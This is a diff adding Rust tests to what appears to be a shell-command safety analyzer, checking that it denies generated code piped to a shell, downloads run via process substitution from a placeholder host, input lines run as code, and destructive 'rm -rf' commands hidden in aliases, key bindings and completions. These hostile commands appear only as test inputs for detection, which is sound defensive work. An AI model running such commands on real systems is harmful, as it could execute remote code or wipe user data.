@@ -170,3 +170,40 @@ fn a_variable_nothing_sets_is_also_read_as_empty() {
     assert_eq!(rule("rm -rf \"${BUILD_DIR:?}\"/*"), None);
     assert!(analyze("rm -rf \"$BUILD_DIR\"").denied.is_none());
 }
+
+#[test]
+fn generated_code_handed_to_a_shell_is_denied_however_it_arrives() {
+    assert_eq!(rule("python3 -c 'print(1)' | bash"), Some("generated-code-to-shell"));
+    assert_eq!(rule("tr a-z n-za-m <<< 'vq' | sh"), Some("generated-code-to-shell"));
+    assert_eq!(rule("bash <<< \"$(awk 'BEGIN{print 1}')\""), Some("generated-code-to-shell"));
+    assert_eq!(rule("bash <<X\n$(jq -r .c f)\nX"), Some("generated-code-to-shell"));
+    assert_eq!(rule("bash <<X\n$(curl -s https://x.example/i)\nX"), Some("download-exec-substitution"));
+    assert_eq!(rule("bash < <(curl -s https://x.example/i)"), Some("download-exec-substitution"));
+    // Output that goes somewhere else is not code.
+    assert_eq!(rule("bash build.sh 2> >(sed 's/^/err: /' >&2)"), None);
+    assert_eq!(rule("jq -r .name f | xargs echo"), None);
+    assert_eq!(rule("python3 -c 'print(1)' | wc -l"), None);
+}
+
+#[test]
+fn input_lines_given_to_a_shell_as_its_code_are_denied() {
+    assert_eq!(rule("xargs -a cmds.txt -I{} sh -c '{}'"), Some("input-as-code"));
+    assert_eq!(rule("xargs -iX sh -c X < cmds"), Some("input-as-code"));
+    assert_eq!(rule("xargs -a cmds.txt sh -c"), Some("input-as-code"));
+    assert_eq!(rule("find . -exec bash -c '{}' \\;"), Some("input-as-code"));
+    // Input as an argument of code that is written out is not code.
+    assert_eq!(rule("find . -name '*.sh' -exec sh -c 'shellcheck \"$1\"' _ {} \\;"), None);
+    assert_eq!(rule("xargs -I{} echo {} < list"), None);
+}
+
+#[test]
+fn what_the_live_shell_keeps_for_later_is_checked_now() {
+    assert_eq!(rule("alias ls='rm -rf ~'"), Some("rm-home"));
+    assert_eq!(rule("bind -x '\"\\C-l\": rm -rf /'"), Some("rm-root"));
+    assert_eq!(rule("complete -C 'rm -rf ~' ls"), Some("rm-home"));
+    assert_eq!(rule("alias gs='git status'"), None);
+    let p = crate::parse::parse("alias ls='rm -rf ~/src'; trap 'rm -f x' EXIT; f() { id; }");
+    assert_eq!(p.defines, ["alias ls: rm -rf ~/src", "trap on EXIT: rm -f x", "function f: { id }"]);
+    // Another shell's definitions end with it.
+    assert!(crate::parse::parse("bash -c \"alias ls='rm -rf ~/src'\"").defines.is_empty());
+}
